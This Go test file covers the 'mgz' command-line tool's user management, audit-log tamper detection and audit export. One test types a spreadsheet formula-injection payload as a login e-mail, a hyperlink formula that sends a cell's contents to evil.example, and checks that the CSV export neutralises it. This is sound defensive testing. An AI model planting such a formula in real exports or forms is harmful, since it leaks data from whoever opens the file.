package main

import (
	"context"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/regio-mgz/mgz"
	"github.com/regio-mgz/mgz/service"
	"github.com/regio-mgz/mgz/sqlstore"
)

// adminDB is a database with an RHO, a care provider and some audited activity.
func adminDB(t *testing.T) (string, map[string]string, mgz.Organisation) {
	t.Helper()
	dbPath := filepath.Join(t.TempDir(), "mgz.db")
	stewardToken(t, dbPath) // the RHO, a user (audited) and a token (audited)
	db, err := sqlstore.Open(context.Background(), dbPath)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	orgs, _, err := db.Register().Organisations(context.Background(), mgz.OrganisationFilter{Kind: mgz.KindRegionalGPOrg})
	if err != nil || len(orgs) != 1 {
		t.Fatalf("RHO: %v %v", orgs, err)
	}
	vars := map[string]string{"MGZ_DB": dbPath}
	cliRun(t, vars, "user", "add", "--org", fmt.Sprint(orgs[0].ID), "--email", "tweede@testregio.example", "--role", "viewer")
	return dbPath, vars, orgs[0]
}

func TestUserAddPrintsAOneTimePasswordAndRefusesBadInput(t *testing.T) {
	_, vars, rho := adminDB(t)
	pw := cliRun(t, vars, "user", "add", "--org", fmt.Sprint(rho.ID), "--email", "Eerste.Beheerder@Testregio.example", "--name", "Eerste Beheerder")
	if len(pw) < mgz.MinPasswordLength || strings.ContainsAny(pw, " \n") {
		t.Fatalf("one-time password %q", pw)
	}
	for _, tc := range []struct {
		args []string
		code int
		want string
	}{
		{[]string{"user", "add", "--org", fmt.Sprint(rho.ID), "--email", "eerste.beheerder@testregio.example"}, 2, "e-mailadres"},
		{[]string{"user", "add", "--org", fmt.Sprint(rho.ID), "--email", "iemand@testregio.example", "--role", "owner"}, 2, "--role"},
		{[]string{"user", "add", "--org", fmt.Sprint(rho.ID), "--email", "arts@testregio.example", "--role", "physician"}, 2, "arts"},
		{[]string{"user", "add", "--org", "999", "--email", "iemand@testregio.example"}, 2, "--org"},
		{[]string{"user", "add", "--org", fmt.Sprint(rho.ID), "--email", "geen-adres"}, 2, "--email"},
		{[]string{"user", "add", "extra"}, 2, "onverwacht argument"},
		{[]string{"user", "remove"}, 2, "onbekende opdracht"},
		{[]string{"token", "create", "--email", "niemand@testregio.example"}, 2, "geen gebruiker"},
	} {
		env, out, errb := testEnv(vars)
		code := run(context.Background(), env, tc.args)
		if code != tc.code || !strings.Contains(strings.ToLower(errb.String()), strings.ToLower(tc.want)) || out.String() != "" {
			t.Errorf("mgz %s: exit %d, stderr %q, stdout %q; want exit %d naming %q and nothing on stdout",
				strings.Join(tc.args, " "), code, errb.String(), out.String(), tc.code, tc.want)
		}
	}
	env, _, errb := testEnv(map[string]string{"MGZ_DB": filepath.Join(t.TempDir(), "tikfout.db")})
	if code := run(context.Background(), env, []string{"user", "add", "--org", "1", "--email", "a@b.example"}); code != 1 || !strings.Contains(errb.String(), "niet gevonden") {
		t.Fatalf("a mistyped database: exit %d, %q", code, errb.String())
	}
}

// TestAuditVerifyNamesTheTamperedRow changes, and in another copy deletes, one row of the audit
// log behind mgz's back: mgz audit verify must fail and name that row.
func TestAuditVerifyNamesTheTamperedRow(t *testing.T) {
	dbPath, vars, _ := adminDB(t)
	if out := cliRun(t, vars, "audit", "verify"); !strings.Contains(out, "in orde") {
		t.Fatalf("untouched log: %q", out)
	}
	for _, tc := range []struct {
		name, sql string
		row       string
	}{
		{"changed", "UPDATE audit_log SET reason = 'niets aan de hand' WHERE id = 2", "regel 2"},
		{"deleted", "DELETE FROM audit_log WHERE id = 2", "regel 2: deze regel ontbreekt"},
		{"last deleted", "DELETE FROM audit_log WHERE id = (SELECT MAX(id) FROM audit_log)", "regel"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			copyPath := filepath.Join(t.TempDir(), "kopie.db")
			copyFile(t, dbPath, copyPath)
			raw, err := sql.Open("sqlite", copyPath)
			if err != nil {
				t.Fatal(err)
			}
			if _, err := raw.Exec(tc.sql); err != nil {
				t.Fatal(err)
			}
			raw.Close()
			env, out, errb := testEnv(map[string]string{"MGZ_DB": copyPath})
			code := run(context.Background(), env, []string{"audit", "verify"})
			if code != 1 || !strings.Contains(out.String(), "NIET IN ORDE") || !strings.Contains(out.String(), tc.row) {
				t.Fatalf("exit %d, stdout %q, stderr %q; want 1 naming %s", code, out.String(), errb.String(), tc.row)
			}
		})
	}
}

// copyFile copies a closed SQLite database (its WAL is checkpointed on close).
func copyFile(t *testing.T, from, to string) {
	t.Helper()
	in, err := os.Open(from)
	if err != nil {
		t.Fatal(err)
	}
	defer in.Close()
	out, err := os.Create(to)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := io.Copy(out, in); err != nil {
		t.Fatal(err)
	}
	if err := out.Close(); err != nil {
		t.Fatal(err)
	}
}

func TestAuditExportWritesCSVAndJSONLinesWithFilters(t *testing.T) {
	_, vars, _ := adminDB(t)
	lines := strings.Split(cliRun(t, vars, "audit", "export"), "\n")
	var first mgz.AuditEntry
	if err := json.Unmarshal([]byte(lines[0]), &first); err != nil || first.ID != 1 || first.Hash == "" {
		t.Fatalf("first JSON line %q: %v", lines[0], err)
	}
	n := len(lines)
	rows, err := csv.NewReader(strings.NewReader(cliRun(t, vars, "audit", "export", "--format", "csv"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	// The header, every entry, and the entry of the first export.
	if len(rows) != n+2 || rows[0][0] != "id" {
		t.Fatalf("CSV has %d rows (header %v), want %d", len(rows), rows[0], n+2)
	}
	if out := cliRun(t, vars, "audit", "export", "--user", "999"); out != "" {
		t.Fatalf("export for an unknown user: %q", out)
	}
	if out := cliRun(t, vars, "audit", "export", "--from", "2000-01-01", "--to", "2000-12-31"); out != "" {
		t.Fatalf("export of a year without entries: %q", out)
	}
	env, _, errb := testEnv(vars)
	if code := run(context.Background(), env, []string{"audit", "export", "--format", "xml", "--from", "gisteren"}); code != 2 ||
		!strings.Contains(errb.String(), "--format") || !strings.Contains(errb.String(), "--from") {
		t.Fatalf("bad flags: exit %d, %q", code, errb.String())
	}
}

// TestAuditExportNeutralisesAFormulaTypedAtTheLogin: the operator's export holds the e-mail that a
// stranger typed at the login form; in CSV it must not be a live formula (issue 9).
func TestAuditExportNeutralisesAFormulaTypedAtTheLogin(t *testing.T) {
	dbPath, vars, _ := adminDB(t)
	typed := `=hyperlink("https://evil.example/?d="&a1,"klik")@a.nl`
	db, err := sqlstore.Open(context.Background(), dbPath)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := service.New(db.Store(), service.Config{}).Login(context.Background(), typed, "wat dan ook", "192.0.2.1"); err == nil {
		t.Fatal("login with a formula succeeded")
	}
	db.Close()
	rows, err := csv.NewReader(strings.NewReader(cliRun(t, vars, "audit", "export", "--format", "csv"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, row := range rows {
		for _, cell := range row {
			if strings.HasPrefix(cell, "=") {
				t.Fatalf("cell %q is a live formula", cell)
			}
			found = found || cell == "'"+typed
		}
	}
	if !found {
		t.Fatalf("the typed e-mail is not in the CSV as '%s", typed)
	}
	if !strings.Contains(cliRun(t, vars, "audit", "export"), `"user_email":"=hyperlink(`) {
		t.Fatal("JSON Lines does not keep the exact text")
	}
}
